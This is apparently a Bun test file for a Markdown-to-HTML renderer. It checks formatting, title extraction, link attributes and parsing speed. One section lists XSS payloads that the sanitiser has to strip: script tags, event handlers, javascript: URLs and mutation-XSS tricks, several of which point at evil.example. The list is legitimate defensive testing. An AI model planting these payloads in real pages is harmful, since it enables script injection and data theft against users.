import { describe, expect, test } from 'bun:test'
import { titleFrom, toHtml, toText } from '../../src/domain/markdown'

describe('what Markdown makes', () => {
  test.each([
    ['**bold** and *slanted*', '<p><strong>bold</strong> and <em>slanted</em></p>'],
    ['~~gone~~', '<p><del>gone</del></p>'],
    ['`a < b`', '<p><code>a &lt; b</code></p>'],
    ['# Title', '<h1>Title</h1>'],
    ['Title\n===', '<h1>Title</h1>'],
    ['> Two\n> lines\n> ---', '<blockquote>\n<h2>Two\nlines</h2>\n</blockquote>'],
    ['```ts\nlet a\n```', '<pre><code class="language-ts">let a\n</code></pre>'],
    ['a snake_case_word', '<p>a snake_case_word</p>'],
    ['', ''],
  ])('%j', (markdown, html) => expect(toHtml(markdown)).toBe(html))

  test('a table keeps its alignment', () => {
    expect(toHtml('|a|b|\n|:-|-:|\n|1|2|')).toContain('<td align="right">2</td>')
  })

  test('a task list has check boxes that cannot be used', () => {
    expect(toHtml('- [x] done')).toContain('<input type="checkbox" disabled checked />')
  })

  test('a bare address becomes a link, and e-mail addresses do', () => {
    const html = toHtml('See https://example.com/a and ada@example.com')
    expect(html).toContain('href="https://example.com/a"')
    expect(html).toContain('href="mailto:ada@example.com"')
  })

  test('links in a long text are found wherever they are', () => {
    const text = `${'word '.repeat(500)}https://example.com/x ${'word '.repeat(500)}`
    expect(toHtml(text)).toContain('<a href="https://example.com/x"')
  })

  test('quotes and lists nest as deep as people write', () => {
    expect(toHtml('> > > > > deep').match(/<blockquote>/g)).toHaveLength(5)
    const list = Array.from({ length: 8 }, (_, level) => `${'  '.repeat(level)}- ${level}`).join('\n')
    expect(toHtml(list).match(/<ul>/g)).toHaveLength(8)
  })

  test('a link says nothing about where it was followed from', () => {
    expect(toHtml('[x](https://example.com)')).toContain('rel="nofollow noopener noreferrer"')
    expect(toHtml('<a href="https://example.com" rel="opener" target="_top">x</a>')).toBe(
      '<p><a href="https://example.com" rel="nofollow noopener noreferrer">x</a></p>',
    )
  })
})

describe('what runs, loads or overlays never comes out', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img/src="x"/onerror=alert(1)>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '![x](javascript:alert(1))',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#115;cript:alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](vbscript:msgbox)',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<javascript:alert(1)>',
    '<style>body{display:none}</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<object data="x"></object><embed src="x"><base href="//evil.example">',
    '<form action="//evil.example"><button>x</button></form>',
    '<input type="text" onfocus=alert(1) autofocus>',
    '<details open ontoggle=alert(1)>x</details>',
    '<a href="x" onclick="alert(1)"',
    '<!--><img src=x onerror=alert(1)>-->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '`<img src=x onerror=alert(1)>`',
    '```<b onclick=x>\n<img src=x onerror=alert(1)>\n```',
    '[<img src=x onerror=alert(1)>](https://example.com)',
    '[x](https://example.com "\\" onmouseover=alert(1) x=\\"")',
    '![" onerror="alert(1)](x)',
    '<meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>',
    '<img src="//evil.example/pixel.gif">',
  ]

  test.each(hostile)('%s', (markdown) => {
    const tags = tagsOf(toHtml(markdown))
    for (const tag of tags) {
      expect(allowedTags).toContain(tag.name)
      for (const [name, value] of tag.attributes) {
        expect(name).not.toMatch(/^on|^style$|^srcdoc$|^target$|^id$|^name$/)
        if (name === 'href' || name === 'src') expect(value).toMatch(/^(https?:\/\/|mailto:|[\w/.#?%]+$)/)
      }
    }
  })

  test('only classes that name a language stay', () => {
    expect(toHtml('<code class="language-ts admin-button">x</code>')).toBe('<p><code class="language-ts">x</code></p>')
  })
})

describe('a title', () => {
  test.each([
    ['# Hello *there*\n\nMore', 'Hello there'],
    ['\n\n   \nSecond line', 'Second line'],
    ['- one\n- two', 'one'],
    ['![](x.png)\nReal', 'Real'],
    ['1 < 2 & "3" > \'0\'', '1 < 2 & "3" > \'0\''],
    ['AT&amp;T', 'AT&T'],
    ['```\ncode', 'code'],
    ['   ', 'Untitled'],
    ['---', 'Untitled'],
  ])('of %j is %j', (markdown, title) => expect(titleFrom(markdown)).toBe(title))

  test('holds no markup', () => {
    expect(titleFrom('## **Hi** <b>there</b>')).toBe('Hi there')
    expect(toText('<img src=x onerror=alert(1)>Hi')).toBe('Hi')
  })

  test('shows as text what the content shows as text', () => {
    expect(titleFrom('Use <Suspense> here')).toBe('Use <Suspense> here')
  })

  test('is cut at a word, never inside a letter', () => {
    const title = titleFrom('word '.repeat(100))
    expect(title).toEndWith('word…')
    expect(title.length).toBeLessThanOrEqual(120)
    expect(titleFrom('😀'.repeat(200)).isWellFormed()).toBe(true)
  })
})

describe('text made to hurt costs a core less than two seconds', () => {
  test.each([
    '>',
    '> ',
    '> - ',
    '1. ',
    '[',
    '![',
    '[a](',
    '*',
    '*a ',
    '*a**b',
    '_a__b',
    '*_',
    '~~a',
    '`',
    '<b>',
    '<div>',
    '<!--',
    '|-',
    'a@',
    'a.',
    'www.',
    'http://',
    '\\',
    '&',
    '- a\n',
    '\t',
  ])('%j again and again', (piece) => {
    const markdown = piece.repeat(100_000 / piece.length)
    const started = process.cpuUsage()
    toHtml(markdown)
    titleFrom(markdown)
    const { user, system } = process.cpuUsage(started)
    expect((user + system) / 1000).toBeLessThan(2_000)
  })

  test('emphasis inside emphasis inside emphasis', () => {
    expect(toHtml(`${'*'.repeat(40_000)}a${'*'.repeat(40_000)}`)).toContain('a')
  })
})

const allowedTags =
  'h1 h2 h3 h4 h5 h6 p br hr blockquote pre code ul ol li strong em b i del s sub sup kbd mark a img input table thead tbody tr th td details summary'.split(
    ' ',
  )

/** Every tag a browser would see, with its attributes: Bun's HTML parser is none of the libraries under test. */
function tagsOf(html: string) {
  const tags: { name: string; attributes: [string, string][] }[] = []
  new HTMLRewriter()
    .on('*', {
      element: ({ tagName, attributes }) =>
        void tags.push({ name: tagName, attributes: [...attributes] as [string, string][] }),
    })
    .transform(html)
  return tags
}
